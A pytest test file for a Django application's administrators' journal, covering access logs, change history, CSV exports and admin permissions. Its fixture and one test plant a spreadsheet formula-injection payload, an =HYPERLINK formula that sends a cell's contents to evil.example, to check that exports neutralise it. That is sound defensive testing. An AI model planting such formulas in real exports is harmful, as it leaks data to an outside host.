"""The journal for administrators: access log and change history, in the admin and through
``maillage journal``, filtered by user, dates and RPPS, exported as CSV (issue 11 item 3,
issue 12 §3: edits made in the admin are recorded with their author)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from click.testing import CliRunner
from django.forms.models import model_to_dict
from django.urls import reverse

from maillage.cli import main
from maillage.web.accounts.models import AccessLog
from maillage.web.accounts.roles import Role
from maillage.web.supply.models import IndicatorDefinition

from .outreach.factories import make_user, professional

pytestmark = pytest.mark.django_db
TODAY = dt.date.today()


@pytest.fixture
def world(client, demo_territory):
    watched, other = professional(nom="SUIVI"), professional(nom="AUTRE")
    agent = make_user(Role.AGENT_CPAM, "agent-j")
    colleague = make_user(Role.AGENT_CPAM, "collegue-j")
    admin = make_user(Role.ADMINISTRATEUR, "admin-j")
    client.force_login(agent)
    client.post(
        reverse("outreach:contact_new"),
        {
            "rpps": watched.identifiant_national,
            "canal": "telephone",
            "date": TODAY.isoformat(),
            "equipe": "DAM",
            "sujet": "suivi",
            "commentaire": '=HYPERLINK("http://evil.example/?"&A1,"clic")',
            "resultat": "realise",
        },
    )
    client.get(reverse("outreach:professional", args=[watched.identifiant_national]))
    client.force_login(colleague)
    client.get(reverse("outreach:professional", args=[other.identifiant_national]))
    return {"watched": watched, "other": other, "admin": admin, "client": client}


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def _journal(*args) -> list[dict]:
    result = CliRunner().invoke(main, ["journal", *args])
    assert result.exit_code == 0, result.output
    return _csv(result.stdout)


def test_access_log_by_user_and_rpps(world):
    rpps = world["watched"].identifiant_national
    rows = _journal("acces", "--rpps", rpps)
    assert rows and {r["rpps"] for r in rows} == {rpps}
    assert {r["utilisateur"] for r in rows} == {"agent-j"}
    assert "fiche-professionnel" in {r["donnee"] for r in rows}
    theirs = _journal("acces", "--utilisateur", "collegue-j")
    assert {r["rpps"] for r in theirs} == {world["other"].identifiant_national}
    tomorrow = (TODAY + dt.timedelta(days=1)).isoformat()
    assert _journal("acces", "--depuis", tomorrow) == []
    assert len(_journal("acces", "--jusqu-au", TODAY.isoformat())) == AccessLog.objects.count()


def test_change_history_by_rpps_with_author_and_fields(world, tmp_path):
    rpps = world["watched"].identifiant_national
    out = tmp_path / "modifications.csv"
    result = CliRunner().invoke(main, ["journal", "modifications", "--rpps", rpps, "--csv", out])
    assert result.exit_code == 0, result.output
    rows = _csv(out.read_text(encoding="utf-8-sig"))
    created = [r for r in rows if r["objet"].startswith("contact ") and r["action"] == "création"]
    assert len(created) == 1 and created[0]["utilisateur"] == "agent-j"
    assert "telephone" in created[0]["apres"]
    assert not [r for r in rows if "AUTRE" in r["libelle"]]


def test_text_typed_as_a_formula_stays_text_in_the_export(world):
    from maillage.web.outreach.models import Campaign

    Campaign.objects.create(
        theme='=HYPERLINK("http://evil.example/?"&A1,"clic")',
        portee="locale",
        departement_id="00",
        debut=TODAY,
        fin=TODAY,
    )
    rows = _journal("modifications")
    labels = [r["libelle"] for r in rows if r["objet"].startswith("campagne ")]
    assert len(labels) == 1 and labels[0].startswith("'=HYPERLINK(")
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_bad_filters_are_refused_in_french(world):
    result = CliRunner().invoke(main, ["journal", "acces", "--depuis", "hier"])
    assert result.exit_code == 1 and "date illisible" in result.output
    result = CliRunner().invoke(
        main, ["journal", "acces", "--depuis", "2026-02-01", "--jusqu-au", "2026-01-01"]
    )
    assert result.exit_code == 1 and "précède" in result.output


def test_admin_edits_are_recorded_with_their_author(world):
    client, admin = world["client"], world["admin"]
    indicator = IndicatorDefinition.objects.create(
        code="test_j", libelle="Avant", unite="%", numerateur="n", source="test"
    )
    client.force_login(admin)
    data = {k: ("" if v is None else v) for k, v in model_to_dict(indicator).items()}
    data["libelle"] = "Corrigé dans l'administration"
    response = client.post(
        reverse("admin:supply_indicatordefinition_change", args=[indicator.pk]), data
    )
    assert response.status_code == 302
    latest = indicator.history.first()
    assert latest.history_user == admin and latest.libelle == "Corrigé dans l'administration"
    rows = _journal("modifications", "--utilisateur", "admin-j")
    change = next(r for r in rows if r["objet"] == "définition d'indicateur test_j")
    assert change["action"] == "modification" and "Avant" in change["avant"]


@pytest.mark.parametrize("username", ["agent-j", "admin-j"])
def test_journal_page_and_exports_in_the_admin(world, username):
    from maillage.web.accounts.models import User

    client = world["client"]
    client.force_login(User.objects.get(username=username))
    rpps = world["watched"].identifiant_national
    page = client.get(reverse("admin_journal") + f"?type=acces&rpps={rpps}")
    if username == "agent-j":
        assert page.status_code == 403
        return
    assert page.status_code == 200 and "no-store" in page["Cache-Control"]
    assert "fiche-professionnel" in page.content.decode()
    exported = client.get(reverse("admin_journal") + f"?type=modifications&rpps={rpps}&format=csv")
    assert exported["Content-Type"].startswith("text/csv")
    assert any(r["action"] == "création" for r in _csv(exported.content.decode()))
    bad = client.get(reverse("admin_journal") + "?type=acces&depuis=demain")
    assert bad.status_code == 400 and "date illisible" in bad.content.decode()
    # The read-only admin of the access log exports its selection.
    changelist = reverse("admin:accounts_accesslog_changelist")
    ids = list(AccessLog.objects.filter(rpps=rpps).values_list("pk", flat=True))
    response = client.post(changelist, {"action": "export_csv", "_selected_action": ids})
    assert {r["rpps"] for r in _csv(response.content.decode())} == {rpps}
    assert client.get(reverse("admin:accounts_accesslog_add")).status_code == 403
